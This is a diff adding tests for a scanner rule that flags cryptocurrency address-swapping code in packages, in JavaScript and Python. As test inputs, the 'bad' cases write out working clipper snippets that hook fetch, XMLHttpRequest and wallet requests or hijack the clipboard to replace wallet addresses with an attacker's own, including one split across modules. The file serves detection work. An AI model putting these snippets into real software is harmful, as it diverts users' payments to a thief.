@@ -1,0 +1,62 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './swapped-address.rule.js';
+
+const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
+const OWN = '0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122';
+const OTHER = '0x7777aBc2d3E4f5061728394a5B6c7D8e9F001122';
+
+test('bad: addresses are replaced in what is sent or copied', () => {
+  for (const code of [
+    `const send = window.fetch; window.fetch = (u, o) => send(u, { ...o, body: o.body.replace(/0x[a-fA-F0-9]{40}/g, "${OWN}") })`,
+    `const own = ["${OWN}", "${OTHER}"]; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b.replace(/\\b0x[a-f0-9]{40}\\b/gi, own[0])) }`,
+    'document.addEventListener("copy", (e) => e.clipboardData.setData("text", String(getSelection()).replace(/\\bT[A-Za-z1-9]{33}\\b/, "TXexampLeexampLeexampLeexampLe1234")))',
+  ]) assert.equal(worst(code), 'critical', code);
+  for (const code of [
+    `const own = ["${OWN}", "${OTHER}"]; const near = (a) => own.sort((x, y) => distance(a, x) - distance(a, y))[0]; globalThis.fetch = async (u) => new Response((await (await f(u)).text()).replace(/0x[a-f0-9]{40}/gi, (a) => near(a)))`,
+    `window.ethereum.request = (r) => { if (/^0x[a-f0-9]{40}$/i.test(r.params[0].to)) r.params[0].to = "${OWN}"; return ask(r) }`,
+    `setInterval(async () => { if (/^0x[a-f0-9]{40}$/i.test(await navigator.clipboard.readText())) navigator.clipboard.writeText("${OWN}") }, 500)`,
+    `text.textContent = text.textContent.replace(/0x[a-f0-9]{40}/gi, "${OWN}")`,
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test('bad: spread over several scripts', () => {
+  const files = { 'index.js': 'const { swap } = require("./swap"); window.fetch = (u, o) => send(u, swap(o))', 'swap.js': `const own = require("./own"); exports.swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, own)`, 'own.js': `module.exports = "${OWN}"` };
+  assert.deepEqual(findingsOf(rule, files).map(({ severity, file }) => [severity, file]), [['high', 'swap.js']]);
+  assert.deepEqual(findingsOf(rule, { ...files, 'swap.js': `exports.isAddress = (t) => /0x[a-f0-9]{40}/i.test(t); require("./own")` }), []);
+});
+
+test('bad: the same in Python', () => {
+  for (const code of [
+    `import re, pyperclip\nif re.fullmatch(r"0x[a-fA-F0-9]{40}", pyperclip.paste()):\n    pyperclip.copy("${OWN}")`,
+    'import re\nfrom tkinter import Tk\nOWN = "1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"\nFOUND = re.compile("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$")\nTk().clipboard_append(OWN)',
+  ]) assert.equal(worst(code, 'a.py'), 'high', code);
+});
+
+test('good: libraries of wallets check and show addresses', () => {
+  for (const code of [
+    `const USDC = "${OWN}"; export const isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text); export const call = { to: USDC, data: encode(USDC) }`,
+    'export const PATTERNS = { BTC: /^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/, TRX: /^T[A-Za-z1-9]{33}$/, SOL: /^[1-9A-HJ-NP-Za-km-z]{32,44}$/ }; export const isValid = (kind, text) => PATTERNS[kind].test(text)',
+    `const KNOWN = { "${OWN}": "Router" }; const hide = (text) => text.replace(/0x[a-fA-F0-9]{40}/g, "<address>")`,
+    `const short = (text) => text.replace(/(0x[a-f0-9]{4})[a-f0-9]{32}([a-f0-9]{4})/i, "$1…$2"); const own = "${OWN}"`,
+    `const TOKENS = ["${OWN}", "${OTHER}"]; const names = (text) => text.replace(/0x[a-f0-9]{40}/gi, (found) => ensNames.get(found) ?? found)`,
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('good: an address to give to, and other hooks', () => {
+  for (const code of [
+    `const GIVE = "${OWN}"; const isAddress = (t) => /^0x[a-f0-9]{40}$/i.test(t); button.onclick = () => navigator.clipboard.writeText(GIVE)`,
+    `const send = window.fetch; window.fetch = (u, o) => send(u.replace(/^http:/, "https:"), o); const contract = "${OWN}"`,
+    `const send = window.fetch; window.fetch = (u, o) => { if (/0x[a-f0-9]{40}/i.test(u)) count(); return send(u, o) }; const contract = "${OWN}"`,
+    'const commit = /^[0-9a-f]{40}$/; const uuid = text.replace(/[0-9a-f]{32}/g, id); window.fetch = traced(window.fetch)',
+    `// text.replace(/0x[a-f0-9]{40}/g, "${OWN}")`,
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('good: the same in Python', () => {
+  for (const code of [
+    `import re\nTOKEN = "${OWN}"\ndef is_address(text):\n    return re.fullmatch(r"0x[a-fA-F0-9]{40}", text)`,
+    `import pyperclip\nGIVE = "${OWN}"\npyperclip.copy(GIVE)`,
+  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
+});
